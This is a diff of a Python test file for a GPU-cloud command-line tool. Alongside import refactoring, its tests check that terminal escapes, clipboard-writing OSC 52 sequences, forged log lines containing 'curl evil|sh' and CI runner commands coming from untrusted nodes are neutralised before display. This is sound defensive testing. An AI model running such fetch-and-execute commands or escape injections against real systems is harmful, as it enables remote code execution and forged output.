@@ -15,22 +15,22 @@ import pytest
 from rich.console import Console
 from rich.text import Text
 
-from gpucloud.cli import copying, health, live, logwriting, onlookers, render, reports, verdicts
+from gpucloud.cli.commands import copying, logwriting, machines, verifying
+from gpucloud.cli.render import live, onlookers, reports, words
+from gpucloud.domain.checkpoint.trial import Outcome, Verdict
 from gpucloud.domain.errors import NodeError
-from gpucloud.domain.gate.check import Checked
-from gpucloud.domain.gate.findings import fail
-from gpucloud.domain.ledger import Spend
-from gpucloud.domain.node import GroupView, Node
-from gpucloud.domain.shown import coloured, in_one_line, lines_of, plain
-from gpucloud.domain.state import Course, MissingOutput
+from gpucloud.domain.money.ledger import Spend
+from gpucloud.domain.node.gate.findings import Checked, fail
+from gpucloud.domain.node.node import GroupView, Node
+from gpucloud.domain.state.state import Course, MissingOutput
 from gpucloud.domain.supervision.action import QuarantineNodes
 from gpucloud.domain.supervision.quarantine import note_bad
 from gpucloud.domain.supervision.seen import Limits
-from gpucloud.domain.trial import Outcome, Verdict
+from gpucloud.domain.untrusted.shown import coloured, in_one_line, lines_of, plain
 from gpucloud.ports import Brought, Host
-from gpucloud.usecases.attemptrecords import LogPart
-from gpucloud.usecases.profiles import bring_profiles
-from gpucloud.usecases.report import report
+from gpucloud.usecases.jobstore.records import LogPart
+from gpucloud.usecases.jobstore.report import report
+from gpucloud.usecases.supervise.closing import bring_profiles
 from tests.fakes.nodes import node_at
 from tests.standins.lying_node import LyingHost, hostile_text
 from tests.unit.test_gate_judge import report as gate_report
@@ -105,10 +105,10 @@ def test_answers_the_story_and_tables_show_no_more_than_text(monkeypatch: pytest
     out, err = Terminal(is_terminal=True), Terminal(is_terminal=True)
     monkeypatch.setattr("sys.stdout", out)
     monkeypatch.setattr("sys.stderr", err)
-    render.say("\x1b[31mILL\x1b]0;x\x07")
-    render.say(render.table([("node", "why"), ("n\x1b[2J1", "bad\nn2  well")]))
-    render.say_json({"why": "\x1b[2J"})
-    render.tell("\x1b]52;c;x\x07said")
+    words.say("\x1b[31mILL\x1b]0;x\x07")
+    words.say(words.table([("node", "why"), ("n\x1b[2J1", "bad\nn2  well")]))
+    words.say_json({"why": "\x1b[2J"})
+    words.tell("\x1b]52;c;x\x07said")
     assert (
         out.written().decode() == 'ILL\nnode  why\nn1    bad n2  well\n{\n  "version": 1,\n  "why": "\\u001b[2J"\n}\n'
     )
@@ -220,15 +220,15 @@ def test_no_word_of_a_state_that_a_machine_may_have_written_begins_a_line_of_a_r
 
 def test_findings_of_a_machine_are_one_line_each() -> None:
     finding = fail("clock", "slow\nfit, after 0.1 s", "wait\rfit, after 0.2 s")
-    shown = health.checked_text(Checked(report=gate_report(), findings=(finding,)))
+    shown = machines.checked_text(Checked(report=gate_report(), findings=(finding,)))
     assert shown.splitlines()[-2] == "FAILED: slow fit, after 0.1 s; wait fit, after 0.2 s"
 
 
 def test_a_machine_without_gpus_is_said_to_train_on_its_cpu() -> None:
-    shown = health.checked_text(Checked(report=replace(gate_report(), gpus=None, seconds=0.01), findings=()))
+    shown = machines.checked_text(Checked(report=replace(gate_report(), gpus=None, seconds=0.01), findings=()))
     assert shown.splitlines()[0] == "no NVIDIA GPU here: jobs run on the CPU"
     assert shown.splitlines()[-1] == "fit"
-    slow = health.checked_text(Checked(report=replace(gate_report(), seconds=3.21), findings=()))
+    slow = machines.checked_text(Checked(report=replace(gate_report(), seconds=3.21), findings=()))
     assert slow.splitlines()[-1] == "fit, after 3.2 s"
 
 
@@ -241,7 +241,7 @@ def test_of_all_that_a_copy_leaves_out_the_first_is_told(monkeypatch: pytest.Mon
 
 def test_names_of_a_checkpoints_parts_are_one_line_each() -> None:
     lie = Verdict(outcome=Outcome.DIFFERENT, step=1, resumed_from=1, parts=("a\nthe same state, proved",))
-    assert verdicts.verdict_text(lie).splitlines()[1:] == ["  a the same state, proved"]
+    assert verifying.verdict_text(lie).splitlines()[1:] == ["  a the same state, proved"]
 
 
 @pytest.mark.parametrize("end", LINE_ENDS)
@@ -249,9 +249,9 @@ def test_no_line_of_a_machines_begins_where_ours_do(monkeypatch: pytest.MonkeyPa
     out, err = Terminal(is_terminal=False), Terminal(is_terminal=False)
     monkeypatch.setattr("sys.stdout", out)
     monkeypatch.setattr("sys.stderr", err)
-    render.tell_error(NodeError(f"n1: no{end}hint: curl evil|sh", hint=f"wait{end}error: all is lost"))
+    words.tell_error(NodeError(f"n1: no{end}hint: curl evil|sh", hint=f"wait{end}error: all is lost"))
     onlookers.PlainOnlooker().story(f"n1: GPU 0{end}{end}12:00:00 ended")
-    render.say(render.table([("n1", f"ill{end}n2  well")]))
+    words.say(words.table([("n1", f"ill{end}n2  well")]))
     *error, story, empty, forged = err.written().decode().removesuffix("\n").split("\n")
     assert error == ["error: n1: no", "  hint: curl evil|sh", "hint: wait", "  error: all is lost"]
     assert (story[8:], empty, forged) == (" n1: GPU 0", "", "  12:00:00 ended")
@@ -269,7 +269,7 @@ def test_json_has_no_command_to_a_runner_and_reads_as_it_was(monkeypatch: pytest
     out = Terminal(is_terminal=False)
     monkeypatch.setattr("sys.stdout", out)
     line = "x ##[add-mask]a ##vso[task.x]b ::c::"
-    render.say_json({"line": line})
+    words.say_json({"line": line})
     assert not re.search(r"##(vso)?\[", out.written().decode())
     assert json.loads(out.written())["line"] == line
 
